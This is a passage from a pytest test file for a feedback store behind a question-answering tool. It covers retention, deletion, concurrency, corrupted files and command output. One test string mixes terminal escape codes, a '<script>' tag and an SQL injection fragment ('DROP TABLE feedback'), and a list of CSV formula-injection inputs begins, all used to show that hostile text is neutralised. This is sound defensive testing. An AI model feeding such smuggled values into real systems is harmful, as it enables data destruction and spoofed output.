"""Facts about what readers said of answers: what is kept of it, who may write at once, and how it is shown."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import sqlite3
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import qa.feedback
from commands import Run, assert_is_one_error_line, clean_environment, folder, run
from outages import fill, small_disk
from qa.cli.feedback import MAX_CELL_CHARS, _cell
from qa.domain import Chunk, Citation, Evidence, Place, Quoted, Refusal, Refused, Source, Span, Statement
from qa.errors import DiskError, IndexBusy, QAError
from qa.feedback import (
    MAX_ANSWER_CHARS,
    MAX_CITATIONS,
    MAX_CITED_CHARS,
    MAX_QUESTION_CHARS,
    MAX_REASON_CHARS,
    Feedback,
    Verdict,
    delete_feedback,
    delete_refused,
    feedback_on,
    forget_older,
    keep_feedback,
    list_feedback,
    most_refused,
    note_refusal,
)
from qa.feedback.file import FEEDBACK_FILE
from verdicts import QUESTION, QUOTE, change, make_older, said

__all__ = ["folder", "run"]

HOSTILE = "a\x00b\x1b[31m\x9b2J\r\nc\u202ed\ud800 \u2028<script>'; DROP TABLE feedback; --"


# What is kept


def test_feedback_is_listed_as_it_was_kept_newest_first(tmp_path: Path) -> None:
    before = datetime.now(tz=UTC) - timedelta(seconds=1)
    first = keep_feedback(said("bad", reason="It was 68."), tmp_path)
    second = keep_feedback(dataclasses.replace(said("good"), refused=True, language="ja"), tmp_path)

    assert list_feedback(tmp_path) == (second, first)
    assert dataclasses.replace(first, number=0, time="") == said("bad", reason="It was 68.")
    assert (first.number, second.number) == (1, 2)
    assert before <= datetime.fromisoformat(first.time) <= datetime.now(tz=UTC)
    assert first.time.endswith("+00:00")


def test_the_list_can_be_narrowed_to_a_verdict_and_to_the_newest(tmp_path: Path) -> None:
    verdicts: tuple[Verdict, ...] = ("good", "bad", "bad", "good", "bad")
    for verdict in verdicts:
        keep_feedback(said(verdict), tmp_path)

    assert [each.number for each in list_feedback(tmp_path, verdict="bad")] == [5, 3, 2]
    assert [each.number for each in list_feedback(tmp_path, verdict="good", limit=1)] == [4]
    assert [each.number for each in list_feedback(tmp_path, limit=2)] == [5, 4]
    assert list_feedback(tmp_path, limit=0) == list_feedback(tmp_path, limit=-1) == ()


def test_where_nothing_was_kept_there_is_nothing_and_reading_makes_no_file(tmp_path: Path) -> None:
    assert list_feedback(tmp_path / "index") == ()
    assert most_refused(tmp_path / "index") == ()
    assert delete_feedback(tmp_path / "index", [1]) == ()
    assert list(tmp_path.iterdir()) == []


def test_the_folder_is_made_and_holds_one_file(tmp_path: Path) -> None:
    index_dir = tmp_path / "a #1?%20" / "index"
    keep_feedback(said(), index_dir)
    note_refusal(QUESTION, "en", index_dir)
    assert [path.name for path in index_dir.iterdir()] == [FEEDBACK_FILE]
    assert len(list_feedback(index_dir)) == 1


@pytest.mark.parametrize("verdict", ["", "GOOD", True, None])
def test_a_verdict_is_good_or_bad(verdict: object) -> None:
    with pytest.raises(ValueError, match="good or bad"):
        Feedback(verdict=verdict, question="", answer="")  # type: ignore[arg-type]


def test_nothing_is_kept_of_who_a_reader_was(tmp_path: Path) -> None:
    keep_feedback(said(), tmp_path)
    with closing(sqlite3.connect(tmp_path / FEEDBACK_FILE)) as connection:
        names = {
            (table, column[1])
            for (table,) in connection.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table'"
            ).fetchall()
            for column in connection.execute(f"PRAGMA table_info({table})").fetchall()
        }
    kept = "number time verdict language refused reason question answer citations"
    assert {name for table, name in names if table == "feedback"} == set(kept.split())
    assert {name for table, name in names if table == "refused"} == set(
        "number key times last_time language question".split()
    )


def test_feedback_on_an_answer_has_its_words_and_quotes() -> None:
    citation = Citation(1, Source("d1", "dalian.txt", "Dalian"), Place(Span(0, len(QUOTE))), QUOTE)
    answer = Quoted(QUESTION, QUESTION, "en", statements=(Statement(QUOTE, (1,)),), citations=(citation,))
    assert feedback_on(answer, "bad", reason="Old.") == said("bad", reason="Old.")


def test_feedback_on_a_refusal_says_so_and_has_the_nearest_statements() -> None:
    span = Span(0, len(QUOTE))
    chunk = Chunk("c1", Source("d1", "dalian.txt", "Dalian"), Place(span), QUOTE, (span,))
    refusal = Refusal("not_direct", nearest=(Evidence(chunk, span, QUOTE, 0.4),))
    feedback = feedback_on(Refused(QUESTION, QUESTION, "vi", refusal=refusal), "good")
    assert feedback.refused
    assert feedback.language == "vi"
    assert feedback.citations == (("dalian.txt", QUOTE),)
    assert feedback.answer


def test_hostile_text_is_kept_as_harmless_text(tmp_path: Path) -> None:
    feedback = Feedback(
        verdict="bad",
        question=HOSTILE,
        answer=f"{HOSTILE}\n\nSecond.",
        reason=HOSTILE,
        citations=((HOSTILE, HOSTILE),),
        language=HOSTILE,
    )
    kept = keep_feedback(feedback, tmp_path)

    line = "ab[31m\x9b2J cd <script>'; DROP TABLE feedback; --"
    assert list_feedback(tmp_path) == (kept,)
    assert kept.question == kept.reason == line
    assert kept.citations == ((line, line),)
    assert kept.answer.splitlines()[-1] == "Second."
    assert "\x1b" not in kept.answer
    assert len(kept.language) <= 35


@given(text=st.text(), path=st.text())
def test_any_text_comes_back_as_it_was_said_to_be_kept(
    tmp_path_factory: pytest.TempPathFactory, text: str, path: str
) -> None:
    index_dir = tmp_path_factory.getbasetemp() / "any"
    kept = keep_feedback(
        Feedback(verdict="good", question=text, answer=text, reason=text, citations=((path, text),)),
        index_dir,
    )
    note_refusal(text, text, index_dir)
    assert list_feedback(index_dir, limit=1) == (kept,)
    assert not re.search(r"[\x00-\x08\x0e-\x1f]", kept.question + kept.answer + kept.reason)


def test_long_texts_are_cut_and_show_it(tmp_path: Path) -> None:
    feedback = Feedback(
        verdict="bad",
        question="q" * 10**6,
        answer="a" * 10**6,
        reason="r" * 10**6,
        citations=(("p" * 10**4, "q" * 10**4),) * 99,
    )
    kept = keep_feedback(feedback, tmp_path)
    note_refusal("q" * 10**6, "en", tmp_path)

    assert list_feedback(tmp_path) == (kept,)
    lengths = [len(text) for text in (kept.question, kept.reason, kept.answer)]
    assert lengths == [MAX_QUESTION_CHARS, MAX_REASON_CHARS, MAX_ANSWER_CHARS]
    assert kept.question.endswith("q…")
    assert len(kept.citations) == MAX_CITATIONS
    assert {len(text) for text in kept.citations[0]} == {MAX_CITED_CHARS}
    assert len(most_refused(tmp_path)[0].question) == MAX_QUESTION_CHARS


def test_a_text_of_just_the_length_is_not_cut(tmp_path: Path) -> None:
    question = "問" * MAX_QUESTION_CHARS
    assert keep_feedback(said(question=question), tmp_path).question == question


def test_the_oldest_feedback_goes_when_there_is_too_much(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(qa.feedback, "MAX_FEEDBACK", 5)
    for _ in range(12):
        keep_feedback(said(), tmp_path)
    assert [each.number for each in list_feedback(tmp_path)] == [12, 11, 10, 9, 8]


# Deleting


def test_what_is_deleted_is_in_the_list_and_in_the_file_no_more(tmp_path: Path) -> None:
    keep_feedback(said(reason="ordinary"), tmp_path)
    keep_feedback(said(reason="call 555-0100"), tmp_path)
    assert b"555-0100" in (tmp_path / FEEDBACK_FILE).read_bytes()

    assert delete_feedback(tmp_path, [2, 2, 7, 0, -1, 2**80]) == (2,)

    assert [each.reason for each in list_feedback(tmp_path)] == ["ordinary"]
    assert b"555-0100" not in (tmp_path / FEEDBACK_FILE).read_bytes()
    assert delete_feedback(tmp_path, [2]) == delete_feedback(tmp_path, []) == ()


def test_a_number_is_never_given_twice(tmp_path: Path) -> None:
    assert delete_feedback(tmp_path, [keep_feedback(said(), tmp_path).number]) == (1,)
    assert keep_feedback(said(), tmp_path).number == 2


def all_bytes(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file())


def test_a_single_refused_question_is_deleted_from_the_list_and_from_the_file(tmp_path: Path) -> None:
    for question in ("Is 555-0100 Mr. A's number?", "What is PM2.5?", "What is PM2.5?"):
        note_refusal(question, "en", tmp_path)
    (second, first) = most_refused(tmp_path)
    assert (first.number, second.number) == (1, 2)

    assert delete_refused(tmp_path, [1, 1, 7, 0, -1, 2**80]) == (1,)

    assert most_refused(tmp_path) == (second,)
    assert b"555-0100" not in all_bytes(tmp_path)
    assert delete_refused(tmp_path, [1]) == delete_refused(tmp_path, []) == ()
    delete_refused(tmp_path, [2])
    note_refusal("Another?", "en", tmp_path)
    assert most_refused(tmp_path)[0].number > 2


VERSION_1 = """
CREATE TABLE feedback (number INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL,
    verdict TEXT NOT NULL CHECK (verdict IN ('good', 'bad')), language TEXT NOT NULL, refused INTEGER NOT NULL,
    reason TEXT NOT NULL, question TEXT NOT NULL, answer TEXT NOT NULL, citations TEXT NOT NULL);
CREATE TABLE refused (key TEXT PRIMARY KEY, times INTEGER NOT NULL, last_time TEXT NOT NULL,
    language TEXT NOT NULL, question TEXT NOT NULL);
CREATE INDEX refused_by_times ON refused (times, last_time);
INSERT INTO feedback
    VALUES (5, '2026-05-04T10:11:12+00:00', 'bad', 'en', 0, 'Old.', 'Why?', 'So.', '[["a.txt", "So."]]');
INSERT INTO refused VALUES ('90c6', 3, '2026-05-04T10:11:12+00:00', 'en', 'Who was it?');
INSERT INTO refused VALUES ('17ab', 7, '2026-05-05T10:11:12+00:00', 'ja', '誰でしたか');
PRAGMA user_version = 1;
"""


@pytest.fixture
def old(tmp_path: Path) -> Path:
    """An index with a file of the program before."""
    with closing(sqlite3.connect(tmp_path / FEEDBACK_FILE)) as connection:
        connection.executescript(VERSION_1)
    return tmp_path


def test_a_file_of_the_program_before_is_read_without_being_changed(old: Path) -> None:
    before = (old / FEEDBACK_FILE).read_bytes()

    assert [each.number for each in list_feedback(old)] == [5]
    assert most_refused(old) == (
        (2, "誰でしたか", 7, "2026-05-05T10:11:12+00:00"),
        (1, "Who was it?", 3, "2026-05-04T10:11:12+00:00"),
    )
    assert forget_older(old, days=36_500) == 0
    assert (old / FEEDBACK_FILE).read_bytes() == before


def test_a_file_of_the_program_before_keeps_all_it_has_when_it_is_written_to(old: Path) -> None:
    listed, refused = list_feedback(old), most_refused(old)

    assert keep_feedback(said(), old).number == 6
    note_refusal("A new one?", "en", old)

    assert list_feedback(old)[1:] == listed
    assert most_refused(old)[:2] == refused
    assert most_refused(old)[2].number == 3
    assert delete_refused(old, [1]) == (1,)
    assert b"Who was it?" not in all_bytes(old)


# How long it is kept


def test_what_is_older_than_its_days_is_deleted_and_overwritten(tmp_path: Path) -> None:
    keep_feedback(said(reason="call 555-0100", answer="a" * 9999), tmp_path)
    note_refusal("Is 555-0100 Mr. A's number?", "en", tmp_path)
    make_older(tmp_path, days=10)
    kept = keep_feedback(said(), tmp_path)
    note_refusal(QUESTION, "en", tmp_path)

    assert forget_older(tmp_path, days=11) == 0
    assert b"555-0100" in all_bytes(tmp_path)
    assert forget_older(tmp_path, days=9) == 2

    assert list_feedback(tmp_path) == (kept,)
    assert [each.question for each in most_refused(tmp_path)] == [QUESTION]
    assert b"555-0100" not in all_bytes(tmp_path)
    assert b"aaaa" not in all_bytes(tmp_path)


def test_a_question_that_is_asked_again_is_as_old_as_the_last_time(tmp_path: Path) -> None:
    note_refusal(QUESTION, "en", tmp_path)
    make_older(tmp_path, days=10)
    note_refusal(QUESTION, "en", tmp_path)
    assert forget_older(tmp_path, days=9) == 0
    assert most_refused(tmp_path)[0].times == 2


@pytest.mark.parametrize(
    "write",
    [
        lambda index_dir: keep_feedback(said(), index_dir, keep_days=9),
        lambda index_dir: note_refusal(QUESTION, "en", index_dir, keep_days=9),
    ],
    ids=["feedback", "a refused question"],
)
def test_whatever_is_written_takes_the_place_of_what_is_too_old(
    tmp_path: Path, write: Callable[[Path], object]
) -> None:
    keep_feedback(said(reason="call 555-0100"), tmp_path)
    note_refusal("Is 555-0100 Mr. A's number?", "en", tmp_path)
    make_older(tmp_path, days=10)
    write(tmp_path)
    assert len(list_feedback(tmp_path)) + len(most_refused(tmp_path)) == 1
    assert b"555-0100" not in all_bytes(tmp_path)


def test_with_no_days_nothing_is_written_and_what_was_there_goes(tmp_path: Path) -> None:
    assert keep_feedback(said(), tmp_path / "index", keep_days=0).number == 0
    note_refusal(QUESTION, "en", tmp_path / "index", keep_days=0)
    assert not (tmp_path / "index").exists()

    keep_feedback(said(reason="call 555-0100"), tmp_path)
    note_refusal("Is 555-0100 Mr. A's number?", "en", tmp_path)
    assert forget_older(tmp_path, days=0) == 2
    assert b"555-0100" not in all_bytes(tmp_path)


def test_where_nothing_is_too_old_a_file_that_cannot_be_written_is_no_error(tmp_path: Path) -> None:
    assert forget_older(tmp_path / "index", days=0) == 0
    keep_feedback(said(), tmp_path)
    with locked(tmp_path, "IMMEDIATE"):
        assert forget_older(tmp_path, days=1) == 0


# Refused questions


def test_questions_that_differ_in_case_blanks_and_final_punctuation_only_count_as_one(tmp_path: Path) -> None:
    for question in ("What is PM2.5?", "what  is pm2.5", " WHAT IS PM2.5 ?! ", "What is PM2.5?"):
        note_refusal(question, "en", tmp_path)
    for question in ("大連の水質は？", "大連の水質は。", "大連の 水質は", "「大連の水質は?」"):
        note_refusal(question, "ja", tmp_path)
    note_refusal("What is PM25?", "en", tmp_path)

    found = most_refused(tmp_path)
    assert {each.question: each.times for each in found} == {
        "What is PM2.5?": 4,
        "大連の 水質は": 3,
        "「大連の水質は?」": 1,
        "What is PM25?": 1,
    }
    assert found[0][1:3] == ("What is PM2.5?", 4)
    assert datetime.fromisoformat(found[0].last_time).tzinfo == UTC


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("ភ្នំពេញ​មាន​អ្វី​?", "ភ្នំពេញមានអ្វី។"),
        ("Straße?", "STRASSE"),
        ("café", unicodedata.normalize("NFD", "Café?")),
        ("ﬁnes…", "Fines..."),
        ("Is it (so)?", "is it (so)"),
    ],
)
def test_these_are_the_same_question(tmp_path: Path, one: str, other: str) -> None:
    note_refusal(one, "en", tmp_path)
    note_refusal(other, "en", tmp_path)
    assert [each.times for each in most_refused(tmp_path)] == [2]


@pytest.mark.parametrize(("one", "other"), [("C++", "C"), ("1.5", "15"), ("-5", "5"), ("$5", "5")])
def test_these_are_two_questions(tmp_path: Path, one: str, other: str) -> None:
    note_refusal(one, "en", tmp_path)
    note_refusal(other, "en", tmp_path)
    assert [each.times for each in most_refused(tmp_path)] == [1, 1]


@pytest.mark.parametrize("question", ["", "  ", "?!", "\x00", "🤔", "+++"])
def test_what_has_no_letter_and_no_number_is_not_counted(tmp_path: Path, question: str) -> None:
    note_refusal(question, "en", tmp_path)
    assert most_refused(tmp_path) == ()


def test_the_most_refused_come_first(tmp_path: Path) -> None:
    for times, (question, language) in enumerate([("a", "en"), ("b", "ja"), ("c", "en")], start=1):
        for _ in range(times):
            note_refusal(question, language, tmp_path)
    assert [row[1:3] for row in most_refused(tmp_path)] == [("c", 3), ("b", 2), ("a", 1)]
    assert [row[1:3] for row in most_refused(tmp_path, count=1)] == [("c", 3)]
    assert most_refused(tmp_path, count=0) == most_refused(tmp_path, count=-1) == ()


def test_nonsense_does_not_push_out_what_was_asked_often(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(qa.feedback, "MAX_REFUSED", 4)
    for question in ("often", "often", "twice", "twice", *(f"nonsense {n}" for n in range(30))):
        note_refusal(question, "en", tmp_path)
    found = {each.question: each.times for each in most_refused(tmp_path)}
    assert len(found) == 4
    assert found.items() >= {"often": 2, "twice": 2, "nonsense 29": 1}.items()


def test_a_new_question_is_counted_even_where_all_others_were_asked_more_often(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(qa.feedback, "MAX_REFUSED", 2)
    for question in ("a", "a", "b", "b", "c"):
        note_refusal(question, "en", tmp_path)
    assert [each.question for each in most_refused(tmp_path)][1:] == ["c"]


# Many at once


@pytest.mark.slow
def test_eight_threads_lose_nothing(tmp_path: Path) -> None:
    def write(thread: int) -> None:
        for number in range(50):
            keep_feedback(said(question=f"{thread} {number}"), tmp_path)
            note_refusal("Always the same?", "en", tmp_path)
            if number % 10 == 0:
                assert list_feedback(tmp_path, limit=5)

    with ThreadPoolExecutor(8) as threads:
        list(threads.map(write, range(8)))

    found = list_feedback(tmp_path)
    assert {each.question for each in found} == {f"{t} {n}" for t in range(8) for n in range(50)}
    assert [each.number for each in found] == list(range(400, 0, -1))
    assert [row.times for row in most_refused(tmp_path)] == [400]


WRITER = """
import sys
from pathlib import Path
from qa.feedback import Feedback, keep_feedback, list_feedback, note_refusal
name, folder = sys.argv[1], Path(sys.argv[2])
print("ready", flush=True)
sys.stdin.readline()
for number in range(100):
    keep_feedback(Feedback(verdict="bad", question=f"{name} {number}", answer=""), folder)
    note_refusal("Always the same?", "en", folder)
    list_feedback(folder, limit=3)
"""


@pytest.mark.slow
def test_two_processes_that_begin_the_file_at_once_lose_nothing(tmp_path: Path) -> None:
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, name, str(tmp_path / "index")],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=clean_environment(),
        )
        for name in "ab"
    ]
    for writer in writers:
        assert writer.stdout
        assert writer.stdout.readline() == "ready\n"
    for writer in writers:
        assert writer.stdin
        writer.stdin.write("\n")
        writer.stdin.flush()
    for writer in writers:
        _, err = writer.communicate(timeout=120)
        assert (writer.returncode, err) == (0, "")

    found = {each.question for each in list_feedback(tmp_path / "index")}
    assert found == {f"{name} {number}" for name in "ab" for number in range(100)}
    assert [row.times for row in most_refused(tmp_path / "index")] == [200]


@contextmanager
def locked(index_dir: Path, how: str = "EXCLUSIVE") -> Iterator[None]:
    """Another writer that does not come to an end."""
    with closing(sqlite3.connect(index_dir / FEEDBACK_FILE, isolation_level=None)) as connection:
        connection.execute(f"BEGIN {how}")
        yield


def test_who_waits_too_long_for_another_writer_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    keep_feedback(said(), tmp_path)
    monkeypatch.setattr(qa.feedback.file, "WAIT_S", 0.1)
    with locked(tmp_path), pytest.raises(IndexBusy, match=re.escape(FEEDBACK_FILE)):
        keep_feedback(said(), tmp_path)
    keep_feedback(said(), tmp_path)
    assert len(list_feedback(tmp_path)) == 2


# What can go wrong with the file

CALLS: dict[str, Callable[[Path], object]] = {
    "keep": lambda index_dir: keep_feedback(said(), index_dir),
    "note": lambda index_dir: note_refusal(QUESTION, "en", index_dir),
    "delete": lambda index_dir: delete_feedback(index_dir, [1]),
    "list": list_feedback,
    "delete refused": lambda index_dir: delete_refused(index_dir, [1]),
    "forget": lambda index_dir: forget_older(index_dir, days=1),
    "most": most_refused,
}
DAMAGES = {
    "not SQLite": b"This is no database, but a text that is long enough. " * 99,
    "half a header": b"SQLite format 3\x00" + bytes(40),
    "zeros": bytes(8192),
}


def assert_names_the_file_and_the_next_step(caught: pytest.ExceptionInfo[QAError], index_dir: Path) -> None:
    assert str(index_dir / FEEDBACK_FILE) in str(caught.value)
    assert "move it away" in str(caught.value) or "move the file away" in str(caught.value)


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize("damage", DAMAGES)
def test_a_damaged_file_is_named_and_left_as_it_is(tmp_path: Path, call: str, damage: str) -> None:
    (tmp_path / FEEDBACK_FILE).write_bytes(DAMAGES[damage])
    with pytest.raises(DiskError) as caught:
        CALLS[call](tmp_path)
    assert_names_the_file_and_the_next_step(caught, tmp_path)
    assert (tmp_path / FEEDBACK_FILE).read_bytes() == DAMAGES[damage]


def test_a_file_that_is_damaged_in_the_middle_is_named(tmp_path: Path) -> None:
    for _ in range(50):
        keep_feedback(said(), tmp_path)
    data = bytearray((tmp_path / FEEDBACK_FILE).read_bytes())
    data[4096:] = b"\xff" * (len(data) - 4096)
    (tmp_path / FEEDBACK_FILE).write_bytes(data)
    with pytest.raises(DiskError) as caught:
        list_feedback(tmp_path)
    assert_names_the_file_and_the_next_step(caught, tmp_path)


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize(
    "statements",
    [
        ["PRAGMA user_version = 3"],
        ["PRAGMA user_version = 0"],
        ["DROP TABLE feedback", "DROP TABLE refused"],
    ],
    ids=["newer", "foreign", "without tables"],
)
def test_a_file_of_another_program_is_named_and_left_as_it_is(
    tmp_path: Path, statements: list[str], call: str
) -> None:
    keep_feedback(said(), tmp_path)
    change(tmp_path, *statements)
    before = (tmp_path / FEEDBACK_FILE).read_bytes()
    with pytest.raises(DiskError) as caught:
        CALLS[call](tmp_path)
    assert_names_the_file_and_the_next_step(caught, tmp_path)
    assert (tmp_path / FEEDBACK_FILE).read_bytes() == before


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE feedback SET citations = 'no list'",
        "UPDATE feedback SET citations = '[1, 2]'",
        "UPDATE feedback SET citations = x'ff'",
        "UPDATE feedback SET reason = CAST(x'ff' AS TEXT)",
    ],
)
def test_rows_that_make_no_sense_are_an_error_that_names_the_file(tmp_path: Path, statement: str) -> None:
    keep_feedback(said(), tmp_path)
    change(tmp_path, statement)
    with pytest.raises(DiskError) as caught:
        list_feedback(tmp_path)
    assert_names_the_file_and_the_next_step(caught, tmp_path)


def test_once_the_damaged_file_is_moved_away_a_new_one_is_begun(tmp_path: Path) -> None:
    (tmp_path / FEEDBACK_FILE).write_bytes(DAMAGES["not SQLite"])
    (tmp_path / FEEDBACK_FILE).rename(tmp_path / "old")
    assert keep_feedback(said(), tmp_path).number == 1


def test_an_empty_file_is_a_new_one(tmp_path: Path) -> None:
    (tmp_path / FEEDBACK_FILE).touch()
    assert list_feedback(tmp_path) == ()
    assert keep_feedback(said(), tmp_path).number == 1


@pytest.mark.parametrize("call", ["keep", "note", "list", "most"])
def test_a_folder_in_the_place_of_the_file_is_named(tmp_path: Path, call: str) -> None:
    (tmp_path / FEEDBACK_FILE).mkdir()
    with pytest.raises(DiskError, match=re.escape(str(tmp_path / FEEDBACK_FILE))):
        CALLS[call](tmp_path)


@pytest.mark.parametrize("call", ["keep", "note"])
def test_a_file_in_the_place_of_the_folder_is_named(tmp_path: Path, call: str) -> None:
    (tmp_path / "index").touch()
    with pytest.raises(DiskError, match=re.escape(str(tmp_path / "index"))):
        CALLS[call](tmp_path / "index")


def test_a_full_disk_is_told_and_loses_nothing_that_was_kept(tmp_path: Path) -> None:
    with small_disk(tmp_path / "disk", megabytes=4) as disk:
        kept = keep_feedback(said(), disk / "index")
        for free in (0, 4, 16):
            fill(disk / "filler", free_kib=free)
            with pytest.raises(DiskError, match=re.escape(FEEDBACK_FILE)):
                for _ in range(20):
                    keep_feedback(said(answer="a" * MAX_ANSWER_CHARS), disk / "index")
            (disk / "filler").unlink()
        assert list_feedback(disk / "index")[-1] == kept
        keep_feedback(said(reason="Again."), disk / "index")
        assert list_feedback(disk / "index")[0].reason == "Again."


# qa feedback


def test_the_command_lists_what_was_said_newest_first(folder: Path, run: Run) -> None:
    keep_feedback(said("good"), folder / "index")
    keep_feedback(dataclasses.replace(said("bad", reason="It was 68."), refused=True), folder / "index")

    ended = run("feedback")

    today = datetime.now(tz=UTC).date().isoformat()[:8]
    assert ended.status == 0
    lines = ended.out.splitlines()
    assert re.fullmatch(rf"2\. bad on {today}\S+ \(en, refused\): {re.escape(QUESTION)}", lines[0])
    assert lines[1:4] == [
        "   reason    It was 68.",
        f"   answer    {QUOTE}",
        f"   cited     dalian.txt: “{QUOTE}”",
    ]
    assert lines[5].startswith("1. good on ")
    assert run("feedback", "--good").out.startswith("1. good")
    assert run("feedback", "--bad", "-n", "5").out.startswith("2. bad")
    assert len(run("feedback", "-n", "1").out.splitlines()) == 4


def test_the_command_says_where_there_is_nothing_and_makes_no_file(folder: Path, run: Run) -> None:
    ended = run("feedback")
    assert (ended.status, ended.out) == (0, "")
    assert "no such feedback" in ended.err
    assert "No refused question" in run("feedback", "--refused").err
    assert json.loads(run("feedback", "--json").out) == {"feedback": []}
    assert json.loads(run("feedback", "--refused", "--json").out) == {"refused": []}
    assert not (folder / "index").exists()


def test_json_is_one_object_with_all_of_it(folder: Path, run: Run) -> None:
    kept = keep_feedback(said(question="大連の水質は？"), folder / "elsewhere")
    ended = run("feedback", "--json", "--index", "elsewhere")
    assert json.loads(ended.out) == {"feedback": [json.loads(json.dumps(dataclasses.asdict(kept)))]}
    assert "大連の水質は？" in ended.out


def test_the_refused_questions_are_listed_with_how_often(folder: Path, run: Run) -> None:
    for number in range(25):
        note_refusal(f"Question {number}?", "en", folder / "index")
    note_refusal("question 3", "en", folder / "index")

    lines = run("feedback", "--refused").out.splitlines()
    assert re.fullmatch(r"    4\.     2 times, last on \d{4}-\d\d-\d\d: question 3", lines[0])
    assert len(lines) == 20
    assert len(run("feedback", "--refused", "-n", "22").out.splitlines()) == 22
    (first,) = json.loads(run("feedback", "--refused", "-n", "1", "--json").out)["refused"]
    assert (first["question"], first["times"]) == ("question 3", 2)


def test_the_command_deletes_by_number_and_names_what_there_is_not(folder: Path, run: Run) -> None:
    for _ in range(4):
        keep_feedback(said(), folder / "index")
    ended = run("feedback", "--delete", "2", "4")
    assert (ended.status, ended.out) == (0, "deleted   2, 4\n")
    ended = run("feedback", "--delete", "1", "9")
    assert ended.out == "deleted   1\n"
    assert "no feedback 9 in index" in assert_is_one_error_line(ended)
    assert [each.number for each in list_feedback(folder / "index")] == [3]
    assert json.loads(run("feedback", "--delete", "3", "--json").out) == {"deleted": [3], "missing": []}


def test_the_command_deletes_single_refused_questions(folder: Path, run: Run) -> None:
    for question in ("One?", "Two?", "Three?"):
        note_refusal(question, "en", folder / "index")
    keep_feedback(said(), folder / "index")
    ended = run("feedback", "--refused", "--delete", "1", "3")
    assert (ended.status, ended.out) == (0, "deleted   1, 3\n")
    ended = run("feedback", "--refused", "--delete", "3")
    assert "no refused question 3 in index" in assert_is_one_error_line(ended)
    assert "qa feedback --refused" in ended.err
    assert [each.question for each in most_refused(folder / "index")] == ["Two?"]
    assert len(list_feedback(folder / "index")) == 1


def test_the_command_deletes_what_is_older_than_is_set(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    keep_feedback(said(), folder / "index")
    note_refusal(QUESTION, "en", folder / "index")
    make_older(folder / "index", days=10)
    assert run("feedback").out
    monkeypatch.setenv("QA_KEEP_QUESTIONS_DAYS", "9")
    assert "no such feedback" in run("feedback").err
    assert most_refused(folder / "index") == ()


@pytest.mark.parametrize(
    "arguments",
    [
        ("-n", "0"),
        ("-n", "-3"),
        ("--good", "--bad"),
        ("--refused", "--bad"),
        ("--json", "--csv", "a.csv"),
        ("--delete",),
        ("--delete", "x"),
        ("--delete", "1", "--bad"),
        ("--delete", "1", "--refused", "--bad"),
        ("--delete", "1", "--csv", "a.csv"),
        ("--delete", "1", "-n", "2"),
    ],
)
def test_arguments_that_do_not_go_together_are_wrong_usage(
    folder: Path, run: Run, arguments: tuple[str, ...]
) -> None:
    keep_feedback(said(), folder / "index")
    with pytest.raises(SystemExit) as caught:
        run("feedback", *arguments)
    assert caught.value.code == 2
    assert len(list_feedback(folder / "index")) == 1


def test_a_damaged_file_is_one_line_of_the_command(folder: Path, run: Run) -> None:
    (folder / "index").mkdir()
    (folder / "index" / FEEDBACK_FILE).write_bytes(DAMAGES["not SQLite"])
    for arguments in (
        (),
        ("--refused",),
        ("--delete", "1"),
        ("--delete", "1", "--refused"),
        ("--csv", "a.csv"),
    ):
        assert "move it away" in assert_is_one_error_line(run("feedback", *arguments))


def test_hostile_text_cannot_steer_the_terminal(folder: Path, run: Run) -> None:
    feedback = Feedback(
        verdict="bad",
        question=HOSTILE,
        answer=HOSTILE,
        reason=HOSTILE,
        citations=((HOSTILE, HOSTILE),),
        language=HOSTILE,
    )
    keep_feedback(feedback, folder / "index")
    note_refusal(HOSTILE, HOSTILE, folder / "index")
    change(folder / "index", "UPDATE feedback SET time = 'x\x1b[2J\ny'")
    for arguments in ((), ("--refused",)):
        out = run("feedback", *arguments).out
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out)
    assert len(run("feedback").out.splitlines()) == 4


# The table for a spreadsheet


def table(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_table_opens_in_excel_with_japanese_and_line_breaks(folder: Path, run: Run) -> None:
    answer = 'A "quote", then;\n\nthe second paragraph.'
    kept = keep_feedback(said(question="大連の水質は？", answer=answer), folder / "index")
    ended = run("feedback", "--csv", "out.csv")

    assert (ended.status, ended.out, ended.err) == (0, "", "out.csv: 1 rows\n")
    assert (folder / "out.csv").read_bytes().startswith(b"\xef\xbb\xbfnumber,")
    assert table(folder / "out.csv") == [
        {
            "number": "1",
            "time": kept.time,
            "verdict": "bad",
            "reason": "",
            "question": "大連の水質は？",
            "answer": answer,
            "citations": f"dalian.txt: “{QUOTE}”",
            "language": "en",
            "refused": "no",
        }
    ]


def test_the_table_can_be_of_one_verdict_and_of_the_refused_questions(folder: Path, run: Run) -> None:
    for verdict in ("good", "bad", "bad"):
        keep_feedback(said("good" if verdict == "good" else "bad"), folder / "index")
    note_refusal("=1+1", "en", folder / "index")
    run("feedback", "--bad", "-n", "1", "--csv", "bad.csv")
    assert [row["number"] for row in table(folder / "bad.csv")] == ["3"]
    run("feedback", "--refused", "--csv", "refused.csv")
    ((number, question, times, _),) = [tuple(row.values()) for row in table(folder / "refused.csv")]
    assert (number, question, times) == ("1", "'=1+1", "1")


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
